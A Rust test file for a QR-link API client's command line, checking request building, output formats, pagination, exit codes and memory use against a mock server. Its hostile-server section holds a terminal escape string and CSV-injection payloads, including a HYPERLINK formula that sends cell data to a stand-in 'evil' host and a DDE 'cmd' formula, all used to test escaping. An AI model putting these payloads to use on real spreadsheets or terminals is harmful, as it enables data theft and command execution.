//! The generated command line (`prolinksqr::cli`, feature `cli`) against a wiremock server
//! on 127.0.0.1: argument parsing into the exact request, each output format byte for
//! byte, `--all` over several pages, the exit codes of every kind of error, and snapshots
//! of `--help`.

use std::io::Write;

use prolinksqr::cli::{self, CliError, Options};
use prolinksqr::{Client, RetryPolicy};
use serde_json::{Value, json};
use wiremock::matchers::{any, method, path, query_param};
use wiremock::{Mock, MockServer, Request, ResponseTemplate};

/// A well-formed key (`key-` + 32 characters), as the docs describe.
const KEY: &str = "key-0123456789abcdef0123456789abcdef";

fn client(server: &MockServer) -> Client {
    Client::builder()
        .credential(KEY)
        .base_url(server.uri())
        .retry(RetryPolicy::none())
        .build()
        .expect("valid configuration")
}

fn parse(args: &[&str]) -> Result<clap::ArgMatches, clap::Error> {
    // Never wrapped: whether help wraps depends on clap's `wrap_help` feature, which other
    // crates of the workspace may switch on, and on the terminal the tests run in.
    cli::command()
        .term_width(0)
        .try_get_matches_from(std::iter::once("prolinksqr").chain(args.iter().copied()))
}

/// Runs `args` against `server`: the result and what was printed.
async fn run_with(
    server: &MockServer,
    args: &[&str],
    options: Options,
) -> (Result<(), CliError>, String) {
    let matches = parse(args).unwrap_or_else(|e| panic!("{args:?} parses: {e}"));
    let mut out = Vec::new();
    let result = cli::run(&client(server), &matches, &options, &mut out).await;
    (result, String::from_utf8(out).expect("UTF-8 output"))
}

/// Runs `args` against `server`, which must succeed: what was printed (compact JSON).
async fn run(server: &MockServer, args: &[&str]) -> String {
    let (result, out) = run_with(server, args, Options::new()).await;
    result.unwrap_or_else(|e| panic!("{args:?}: {e}"));
    out
}

async fn answering(response: ResponseTemplate) -> MockServer {
    let server = MockServer::start().await;
    Mock::given(any())
        .respond_with(response)
        .mount(&server)
        .await;
    server
}

/// The one request received, after checking its method, path, query and credential.
async fn only_request(
    server: &MockServer,
    method: &str,
    path: &str,
    query: Option<&str>,
) -> Request {
    let mut requests = server.received_requests().await.expect("recording is on");
    assert_eq!(requests.len(), 1, "exactly one request: {requests:?}");
    let request = requests.remove(0);
    assert_eq!(request.method.as_str(), method);
    assert_eq!(request.url.path(), path);
    assert_eq!(request.url.query(), query);
    let auth: Vec<_> = request.headers.get_all("authorization").iter().collect();
    assert_eq!(auth, [&format!("Basic {KEY}")]);
    request
}

fn link(slug: &str) -> Value {
    json!({
        "dynamic_link_id": slug,
        "full_dynamic_url": format!("https://qr-lb.co/{slug}"),
        "name": slug,
        "type": "website",
    })
}

fn page_of(slugs: &[&str], current: i64, total: i64) -> Value {
    let data: Vec<Value> = slugs.iter().map(|s| link(s)).collect();
    json!({ "data": data, "meta": { "currentPage": current, "totalPages": total } })
}

// ------------------------------------------------------------------- the command tree

#[test]
fn the_command_tree_passes_clap_debug_asserts() {
    // clap checks ids, names and positional order here (it panics in debug builds on a
    // duplicate); every group and operation is a subcommand.
    let command = cli::command();
    command.clone().debug_assert();
    let groups: Vec<&str> = command.get_subcommands().map(|c| c.get_name()).collect();
    assert_eq!(
        groups,
        ["bulk", "cafes", "folders", "groups", "links", "templates"]
    );
    let links = command.find_subcommand("links").expect("links");
    let ops: Vec<&str> = links.get_subcommands().map(|c| c.get_name()).collect();
    assert_eq!(
        ops,
        [
            "list",
            "create",
            "get",
            "update",
            "delete",
            "patch-qr-options",
            "archive",
            "pause",
            "resume",
            "duplicate",
            "save-as-template"
        ]
    );
}

#[test]
fn help_is_snapshotted() {
    for (name, args) in [
        ("help_root", &["--help"][..]),
        ("help_links", &["links", "--help"][..]),
        ("help_links_list", &["links", "list", "--help"][..]),
    ] {
        let err = parse(args).expect_err("--help stops parsing");
        assert_eq!(err.kind(), clap::error::ErrorKind::DisplayHelp);
        insta::assert_snapshot!(name, err.to_string());
        assert_eq!(CliError::from(err).exit_code(), 0, "help is not a failure");
    }
}

#[test]
fn enum_values_are_offered_but_unknown_ones_accepted() {
    let err = parse(&["links", "list", "--help"]).expect_err("help");
    let help = err.to_string();
    assert!(help.contains("[possible values: website,"), "{help}");
    let matches = parse(&[
        "links",
        "list",
        "--qr-type",
        "hologram",
        "--sort-by",
        "newest_first",
    ])
    .expect("open values");
    let (_, list) = matches
        .subcommand()
        .and_then(|(_, m)| m.subcommand())
        .expect("links list");
    let given: Vec<&String> = list.get_many("qr-type").expect("given").collect();
    assert_eq!(given, ["hologram"]);
}

#[test]
fn bad_arguments_are_clap_errors_with_exit_code_2() {
    for (args, kind) in [
        (
            &["links", "get"][..],
            clap::error::ErrorKind::MissingRequiredArgument,
        ),
        (
            &["links", "list", "--no-such-flag"][..],
            clap::error::ErrorKind::UnknownArgument,
        ),
        (
            &["links", "frobnicate"][..],
            clap::error::ErrorKind::InvalidSubcommand,
        ),
        (
            &["links", "list", "--output", "xml"][..],
            clap::error::ErrorKind::InvalidValue,
        ),
    ] {
        let err = parse(args).expect_err("bad arguments");
        assert_eq!(err.kind(), kind, "{args:?}");
        let err = CliError::from(err);
        assert_eq!(err.exit_code(), 2, "{args:?}");
        assert!(!err.to_string().contains('\n'), "one line: {err}");
    }
}

// --------------------------------------------------------------- requests and outputs

#[tokio::test]
async fn list_flags_become_the_query_and_json_is_printed_compact() {
    let server =
        answering(ResponseTemplate::new(200).set_body_json(page_of(&["a", "b"], 2, 5))).await;
    let out = run(
        &server,
        &[
            "links",
            "list",
            "--page",
            "2",
            "--size",
            "50",
            "--search",
            "summer sale & more",
            "--qr-type",
            "website",
            "--qr-type",
            "vcard",
            "--status",
            "active,paused",
            "--only-favorites",
            "--sort-by",
            "most_recent",
        ],
    )
    .await;

    let query = "page=2&size=50&search=summer+sale+%26+more&qr_type=website%2Cvcard\
                 &status=active%2Cpaused&only_favorites=true&sort_by=most_recent";
    only_request(&server, "GET", "/links", Some(query)).await;
    // The page as the API sent it: the command line prints JSON, not the decoded page.
    let expected = format!("{}\n", page_of(&["a", "b"], 2, 5));
    assert_eq!(out, expected);
}

#[tokio::test]
async fn get_takes_the_id_positionally_and_prints_pretty_json() {
    let server =
        answering(ResponseTemplate::new(200).set_body_json(json!({ "data": link("summer-sale") })))
            .await;
    let (result, out) = run_with(
        &server,
        &["links", "get", "summer-sale"],
        Options::new().pretty(true),
    )
    .await;
    result.expect("success");
    only_request(&server, "GET", "/links/summer-sale", None).await;
    assert_eq!(
        out,
        "{\n  \"dynamic_link_id\": \"summer-sale\",\n  \"full_dynamic_url\": \"https://qr-lb.co/summer-sale\",\n  \"name\": \"summer-sale\",\n  \"type\": \"website\"\n}\n"
    );
}

#[tokio::test]
async fn output_table_and_csv_show_the_columns_a_person_reads() {
    let server =
        answering(ResponseTemplate::new(200).set_body_json(page_of(&["a", "summer-sale"], 1, 1)))
            .await;
    let table = run(&server, &["links", "list", "--output", "table"]).await;
    assert_eq!(
        table,
        "dynamic_link_id  name         type     full_dynamic_url\n\
         a                a            website  https://qr-lb.co/a\n\
         summer-sale      summer-sale  website  https://qr-lb.co/summer-sale\n"
    );
    // Global: accepted before the subcommand too.
    let csv = run(&server, &["--output", "csv", "links", "list"]).await;
    assert_eq!(
        csv,
        "dynamic_link_id,name,type,full_dynamic_url\n\
         a,a,website,https://qr-lb.co/a\n\
         summer-sale,summer-sale,website,https://qr-lb.co/summer-sale\n"
    );
}

#[tokio::test]
async fn all_streams_every_page() {
    let server = MockServer::start().await;
    for (page, slugs) in [(1, &["a", "b"][..]), (2, &["c"][..]), (3, &["d"][..])] {
        Mock::given(method("GET"))
            .and(path("/links"))
            .and(query_param("page", page.to_string()))
            .respond_with(ResponseTemplate::new(200).set_body_json(page_of(slugs, page, 3)))
            // Once for each of the three runs below.
            .expect(3)
            .mount(&server)
            .await;
    }
    let out = run(&server, &["links", "list", "--all", "--size", "2"]).await;
    let items: Vec<String> = ["a", "b", "c", "d"]
        .iter()
        .map(|s| link(s).to_string())
        .collect();
    assert_eq!(out, format!("[\n{}\n]\n", items.join(",\n")));
    let parsed: Vec<Value> = serde_json::from_str(&out).expect("a JSON array");
    assert_eq!(parsed.len(), 4);

    let csv = run(&server, &["links", "list", "--all", "--output", "csv"]).await;
    assert_eq!(
        csv,
        "dynamic_link_id,name,type,full_dynamic_url\n\
         a,a,website,https://qr-lb.co/a\nb,b,website,https://qr-lb.co/b\n\
         c,c,website,https://qr-lb.co/c\nd,d,website,https://qr-lb.co/d\n"
    );
    let table = run(&server, &["links", "list", "--all", "--output", "table"]).await;
    assert_eq!(
        table,
        "dynamic_link_id  name  type     full_dynamic_url\n\
         a                a     website  https://qr-lb.co/a\n\
         b                b     website  https://qr-lb.co/b\n\
         c                c     website  https://qr-lb.co/c\n\
         d                d     website  https://qr-lb.co/d\n"
    );
}

#[tokio::test]
async fn all_over_an_empty_list_prints_an_empty_array() {
    let server = answering(ResponseTemplate::new(200).set_body_json(page_of(&[], 1, 0))).await;
    assert_eq!(run(&server, &["links", "list", "--all"]).await, "[]\n");
}

#[tokio::test]
async fn body_fields_are_flags() {
    let server = answering(
        ResponseTemplate::new(201)
            .set_body_json(json!({ "data": { "id": "f-7", "name": "Campaigns" } })),
    )
    .await;
    let out = run(&server, &["folders", "create", "--name", "Campaigns"]).await;
    let request = only_request(&server, "POST", "/folders", None).await;
    let body: Value = serde_json::from_slice(&request.body).expect("JSON body");
    assert_eq!(body, json!({ "name": "Campaigns" }));
    assert_eq!(out, "{\"id\":\"f-7\",\"name\":\"Campaigns\"}\n");
}

#[tokio::test]
async fn body_comes_from_a_json_or_yaml_file_and_flags_override_it() {
    let dir = std::env::temp_dir().join(format!("prolinksqr-cli-{}", std::process::id()));
    std::fs::create_dir_all(&dir).expect("temp dir");
    let json_file = dir.join("folder.json");
    std::fs::write(&json_file, r#"{"name": "From JSON"}"#).expect("write");
    let yaml_file = dir.join("folder.yaml");
    let mut yaml = std::fs::File::create(&yaml_file).expect("create");
    writeln!(yaml, "# a folder\nname: From YAML").expect("write");

    for (args, sent) in [
        (
            vec!["folders", "create", "--body", json_file.to_str().unwrap()],
            "From JSON",
        ),
        (
            vec!["folders", "create", "--body", yaml_file.to_str().unwrap()],
            "From YAML",
        ),
        (
            vec![
                "folders",
                "create",
                "--body",
                yaml_file.to_str().unwrap(),
                "--name",
                "Flag",
            ],
            "Flag",
        ),
    ] {
        let server = answering(
            ResponseTemplate::new(201)
                .set_body_json(json!({ "data": { "id": "f-1", "name": sent } })),
        )
        .await;
        run(&server, &args).await;
        let request = only_request(&server, "POST", "/folders", None).await;
        let body: Value = serde_json::from_slice(&request.body).expect("JSON body");
        assert_eq!(body, json!({ "name": sent }), "{args:?}");
    }
    std::fs::remove_dir_all(&dir).ok();
}

#[tokio::test]
async fn commands_without_content_print_nothing() {
    let server = answering(ResponseTemplate::new(204)).await;
    assert_eq!(run(&server, &["links", "pause", "l-1"]).await, "");
    only_request(&server, "POST", "/links/l-1/pause", None).await;
}

// ------------------------------------------------------------------------------ errors

#[tokio::test]
async fn forbidden_exits_1_naming_the_scope() {
    let server = answering(
        ResponseTemplate::new(403)
            .set_body_json(json!({ "message": "You do not have permission." })),
    )
    .await;
    let (result, out) = run_with(&server, &["links", "get", "l-1"], Options::new()).await;
    let err = result.expect_err("403");
    assert_eq!(err.exit_code(), 1);
    assert_eq!(
        err.to_string(),
        "getLink: 403 Forbidden: You do not have permission. (requires scope `links.read`)"
    );
    assert!(!err.to_string().contains(KEY));
    assert_eq!(out, "");
}

#[tokio::test]
async fn quota_exhausted_exits_1_saying_so() {
    let server = answering(ResponseTemplate::new(429)).await;
    let (result, _) = run_with(&server, &["folders", "list"], Options::new()).await;
    let err = result.expect_err("429");
    assert_eq!(err.exit_code(), 1);
    let text = err.to_string();
    assert!(
        text.contains("API quota for the current billing cycle is exhausted"),
        "{text}"
    );
    assert!(!text.contains(KEY));
    // Never retried, so one request.
    assert_eq!(
        server.received_requests().await.expect("recording").len(),
        1
    );
}

#[tokio::test]
async fn unusable_inputs_exit_2_before_anything_is_sent() {
    let dir = std::env::temp_dir().join(format!("prolinksqr-cli-bad-{}", std::process::id()));
    std::fs::create_dir_all(&dir).expect("temp dir");
    let broken = dir.join("broken.json");
    std::fs::write(&broken, "{ not json").expect("write");
    let missing = dir.join("missing.yaml");
    let server = answering(ResponseTemplate::new(500)).await;
    for (args, message) in [
        (
            vec!["folders", "create", "--body", broken.to_str().unwrap()],
            "is not valid JSON",
        ),
        (
            vec!["folders", "create", "--body", missing.to_str().unwrap()],
            "cannot read",
        ),
        (vec!["folders", "create"], "this command needs a body"),
        (
            vec!["links", "list", "--size", "ten"],
            "invalid value \"ten\" for `size`",
        ),
    ] {
        let (result, out) = run_with(&server, &args, Options::new()).await;
        let err = result.expect_err("bad input");
        assert_eq!(err.exit_code(), 2, "{args:?}: {err}");
        assert!(err.to_string().contains(message), "{args:?}: {err}");
        assert_eq!(out, "");
    }
    assert!(
        server
            .received_requests()
            .await
            .expect("recording")
            .is_empty()
    );
    std::fs::remove_dir_all(&dir).ok();
}

#[tokio::test]
async fn a_server_error_exits_1() {
    let server = answering(ResponseTemplate::new(500).set_body_string("boom")).await;
    let (result, _) = run_with(&server, &["folders", "list"], Options::new()).await;
    let err = result.expect_err("500");
    assert_eq!(err.exit_code(), 1);
    assert!(err.to_string().starts_with("listFolders: 500"), "{err}");
}

#[tokio::test]
async fn file_parts_are_paths() {
    let dir = std::env::temp_dir().join(format!("prolinksqr-cli-logo-{}", std::process::id()));
    std::fs::create_dir_all(&dir).expect("temp dir");
    let logo = dir.join("logo.png");
    std::fs::write(&logo, b"\x89PNG-bytes").expect("write");
    let server = answering(
        ResponseTemplate::new(200)
            .set_body_json(json!({ "data": { "id": "c-1", "name": "Cafe" } })),
    )
    .await;
    let out = run(
        &server,
        &[
            "cafes",
            "update-profile",
            "c-1",
            "--logo",
            logo.to_str().unwrap(),
        ],
    )
    .await;
    let request = only_request(&server, "PUT", "/cafes/c-1/profile", None).await;
    let content_type = request.headers["content-type"].to_str().expect("ASCII");
    assert!(
        content_type.starts_with("multipart/form-data; boundary="),
        "{content_type}"
    );
    let body = String::from_utf8_lossy(&request.body);
    assert!(
        body.contains("Content-Disposition: form-data; name=\"logo\"; filename=\"logo.png\""),
        "{body}"
    );
    assert!(
        body.contains("\u{FFFD}PNG-bytes"),
        "the file's bytes: {body}"
    );
    assert!(
        !body.contains("name=\"cover\""),
        "an unset part is not sent: {body}"
    );
    assert_eq!(out, "{\"id\":\"c-1\",\"name\":\"Cafe\"}\n");

    let missing = dir.join("missing.png");
    let (result, _) = run_with(
        &server,
        &[
            "cafes",
            "update-profile",
            "c-1",
            "--logo",
            missing.to_str().unwrap(),
        ],
        Options::new(),
    )
    .await;
    let err = result.expect_err("no such file");
    assert_eq!(err.exit_code(), 2);
    assert!(err.to_string().starts_with("cannot read "), "{err}");
    std::fs::remove_dir_all(&dir).ok();
}

// -------------------------------------------------------------- hostile server text

/// A name that would set the terminal title, ring the bell, start a CSI sequence through
/// the C1 control `U+009B` and reverse the text after it (`U+202E`).
const HOSTILE: &str = "\u{1b}]0;pwned\u{7}\u{9b}31m\u{202e}txt.exe";

fn named(slug: &str, name: &str) -> Value {
    let mut link = link(slug);
    link["name"] = json!(name);
    link
}

#[tokio::test]
async fn server_text_is_escaped_in_tables_and_json() {
    let page = json!({"data": [named("a", HOSTILE)], "meta": {"currentPage": 1, "totalPages": 1}});
    let server = answering(ResponseTemplate::new(200).set_body_json(page)).await;

    let table = run(&server, &["links", "list", "--output", "table"]).await;
    assert_eq!(
        table,
        "dynamic_link_id  name                                         type     full_dynamic_url\n\
         a                \\u{1b}]0;pwned\\u{7}\\u{9b}31m\\u{202e}txt.exe  website  https://qr-lb.co/a\n"
    );
    let json = run(&server, &["links", "list"]).await;
    assert!(
        json.contains(r#""name":"\u001b]0;pwned\u0007\u009b31m\u202etxt.exe""#),
        "{json}"
    );
    for out in [&table, &json] {
        assert!(
            !out.contains(['\u{1b}', '\u{7}', '\u{9b}', '\u{202e}']),
            "{out:?}"
        );
    }
    // Escaped, the JSON still holds the server's exact text.
    let parsed: Value = serde_json::from_str(&json).unwrap();
    assert_eq!(parsed["data"][0]["name"], HOSTILE);
}

/// One 100,000-character name in a 1,000-row page used to pad every row to its width
/// (100 MB of spaces); cells are cut at 60 characters.
#[tokio::test]
async fn a_huge_value_does_not_widen_every_row_of_a_table() {
    let huge = "x".repeat(100_000);
    let rows: Vec<Value> = (0..1000)
        .map(|i| named(&format!("l-{i}"), if i == 500 { &huge } else { "n" }))
        .collect();
    let page = json!({"data": rows, "meta": {"currentPage": 1, "totalPages": 1}});
    let server = answering(ResponseTemplate::new(200).set_body_json(page)).await;

    let table = run(&server, &["links", "list", "--output", "table"]).await;
    let lines: Vec<&str> = table.lines().collect();
    assert_eq!(lines.len(), 1001);
    let cut = format!("{}…", "x".repeat(59));
    assert_eq!(
        lines[501],
        format!("l-500            {cut}  website  https://qr-lb.co/l-500")
    );
    assert_eq!(
        lines[1],
        format!(
            "l-0              n{}  website  https://qr-lb.co/l-0",
            " ".repeat(59)
        )
    );
    assert!(table.len() < 120_000, "{} bytes", table.len());
    // CSV is data: the whole value.
    let csv = run(&server, &["links", "list", "--output", "csv"]).await;
    assert!(csv.contains(&format!("l-500,{huge},website")));
}

/// OWASP's rule against CSV injection: text starting with `=`, `+`, `-`, `@`, a tab or a
/// carriage return gets a leading `'`, in `--output csv` of a page and of `--all`.
#[tokio::test]
async fn csv_cells_that_a_spreadsheet_would_run_start_with_a_quote() {
    let names = [
        r#"=HYPERLINK("http://evil/?"&A1,"x")"#,
        "+1",
        "-1",
        "@SUM(A1)",
        "\tx",
        "\rx",
        "a=b",
    ];
    let mut rows: Vec<Value> = names
        .iter()
        .enumerate()
        .map(|(i, name)| named(&format!("l{i}"), name))
        .collect();
    rows[1]["dynamic_link_id"] = json!("-l1");
    rows[2]["full_dynamic_url"] = json!("=cmd|' /C calc'!A0");
    let page = json!({"data": rows, "meta": {"currentPage": 1, "totalPages": 1}});
    let server = answering(ResponseTemplate::new(200).set_body_json(page)).await;

    let expected = "dynamic_link_id,name,type,full_dynamic_url\n\
         l0,\"'=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"x\"\")\",website,https://qr-lb.co/l0\n\
         '-l1,'+1,website,https://qr-lb.co/l1\n\
         l2,'-1,website,'=cmd|' /C calc'!A0\n\
         l3,'@SUM(A1),website,https://qr-lb.co/l3\n\
         l4,'\tx,website,https://qr-lb.co/l4\n\
         l5,\"'\rx\",website,https://qr-lb.co/l5\n\
         l6,a=b,website,https://qr-lb.co/l6\n";
    assert_eq!(
        run(&server, &["links", "list", "--output", "csv"]).await,
        expected
    );
    let all = run(&server, &["links", "list", "--all", "--output", "csv"]).await;
    assert_eq!(all, expected);
}

// ------------------------------------------------------------------- endless pages

/// Every page full and new, and always "more to come": `--all` stops at the client's
/// page limit with an error (exit 1) after printing those pages.
#[tokio::test]
async fn all_stops_at_the_page_limit_of_the_client() {
    let server = MockServer::start().await;
    Mock::given(method("GET"))
        .and(path("/links"))
        .respond_with(|request: &Request| {
            let page: i64 = request
                .url
                .query_pairs()
                .find(|(k, _)| k == "page")
                .and_then(|(_, v)| v.parse().ok())
                .unwrap_or(1);
            ResponseTemplate::new(200).set_body_json(page_of(
                &[&format!("p{page}")],
                page,
                i64::MAX,
            ))
        })
        .mount(&server)
        .await;
    let client = Client::builder()
        .credential(KEY)
        .base_url(server.uri())
        .max_pages(3)
        .build()
        .unwrap();
    let matches = parse(&["links", "list", "--all", "--output", "csv"]).unwrap();
    let mut out = Vec::new();
    let err = cli::run(&client, &matches, &Options::new(), &mut out)
        .await
        .unwrap_err();
    assert!(
        matches!(
            err,
            CliError::Api(prolinksqr::Error::TooManyPages { limit: 3 })
        ),
        "{err:?}"
    );
    assert_eq!(err.exit_code(), 1);
    assert_eq!(
        String::from_utf8(out).unwrap(),
        "dynamic_link_id,name,type,full_dynamic_url\n\
         p1,p1,website,https://qr-lb.co/p1\n\
         p2,p2,website,https://qr-lb.co/p2\n\
         p3,p3,website,https://qr-lb.co/p3\n"
    );
    let pages: Vec<Option<String>> = server
        .received_requests()
        .await
        .unwrap()
        .iter()
        .map(|r| r.url.query().map(str::to_owned))
        .collect();
    assert_eq!(
        pages,
        [
            Some("page=1".into()),
            Some("page=2".into()),
            Some("page=3".into())
        ]
    );
}

/// A server that ignores `page` and serves the first page forever: the stream ends at
/// the first repeat.
#[tokio::test]
async fn all_stops_when_a_page_repeats() {
    let server =
        answering(ResponseTemplate::new(200).set_body_json(page_of(&["a", "b"], 1, i64::MAX)))
            .await;
    let csv = run(&server, &["links", "list", "--all", "--output", "csv"]).await;
    assert_eq!(
        csv,
        "dynamic_link_id,name,type,full_dynamic_url\n\
         a,a,website,https://qr-lb.co/a\nb,b,website,https://qr-lb.co/b\n"
    );
    assert_eq!(server.received_requests().await.unwrap().len(), 2);
}

// ------------------------------------------------------------------ memory of a page

/// Counts the heap bytes live on each thread (a thread's frees of another thread's memory
/// count against it, so the numbers are per-thread approximations): the CLI decodes and
/// prints on the test's thread (`#[tokio::test]` runs one), so its peak is what printing
/// a page costs.
mod heap {
    use std::alloc::{GlobalAlloc, Layout, System};
    use std::cell::Cell;

    pub struct Counting;

    thread_local! {
        static LIVE: Cell<i64> = const { Cell::new(0) };
        static PEAK: Cell<i64> = const { Cell::new(0) };
    }

    fn change(by: i64) {
        let live = LIVE.get() + by;
        LIVE.set(live);
        PEAK.set(PEAK.get().max(live));
    }

    /// The peak of this thread's live heap bytes while `run` runs, above where it started.
    pub fn peak_of<R>(run: impl FnOnce() -> R) -> (R, i64) {
        let start = LIVE.get();
        PEAK.set(start);
        let result = run();
        (result, PEAK.get() - start)
    }

    fn size(layout: Layout) -> i64 {
        i64::try_from(layout.size()).unwrap_or(i64::MAX)
    }

    // SAFETY: every method forwards to `System` unchanged and only updates counters.
    unsafe impl GlobalAlloc for Counting {
        unsafe fn alloc(&self, layout: Layout) -> *mut u8 {
            // SAFETY: forwarded with the caller's guarantees.
            let ptr = unsafe { System.alloc(layout) };
            if !ptr.is_null() {
                change(size(layout));
            }
            ptr
        }

        unsafe fn dealloc(&self, ptr: *mut u8, layout: Layout) {
            // SAFETY: forwarded with the caller's guarantees.
            unsafe { System.dealloc(ptr, layout) };
            change(-size(layout));
        }

        unsafe fn realloc(&self, ptr: *mut u8, layout: Layout, new_size: usize) -> *mut u8 {
            // SAFETY: forwarded with the caller's guarantees.
            let new = unsafe { System.realloc(ptr, layout, new_size) };
            if !new.is_null() {
                change(i64::try_from(new_size).unwrap_or(i64::MAX) - size(layout));
            }
            new
        }
    }
}

#[global_allocator]
static HEAP: heap::Counting = heap::Counting;

/// A table or CSV of a large page costs about what its JSON output does: rows are made
/// one at a time from the result's JSON text, not from a tree of JSON values of the
/// whole page plus every cell as text (which cost several times the page before).
#[test]
fn a_large_page_prints_as_a_table_or_csv_in_about_the_memory_of_json() {
    let rows: Vec<Value> = (0..20_000)
        .map(|i| {
            named(
                &format!("l-{i}"),
                &format!("Link number {i} with a longer name"),
            )
        })
        .collect();
    let page = json!({"data": rows, "meta": {"currentPage": 1, "totalPages": 1}});
    let body = serde_json::to_vec(&page).unwrap();
    let runtime = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .unwrap();
    let server = runtime.block_on(answering(
        ResponseTemplate::new(200).set_body_raw(body.clone(), "application/json"),
    ));
    let peak = |format: &str| {
        let matches = parse(&["links", "list", "--output", format]).unwrap();
        let client = client(&server);
        let (written, peak) = heap::peak_of(|| {
            let mut out = std::io::sink();
            runtime.block_on(cli::run(&client, &matches, &Options::new(), &mut out))
        });
        written.unwrap();
        peak
    };
    let json = peak("json");
    let body = i64::try_from(body.len()).unwrap();
    for format in ["table", "csv"] {
        let used = peak(format);
        println!("{format}: peak {used} bytes; json: {json}; body {body}");
        assert!(
            used < json + 2 * body,
            "{format} took {used} bytes at its peak, json {json}, the body is {body}"
        );
    }
}
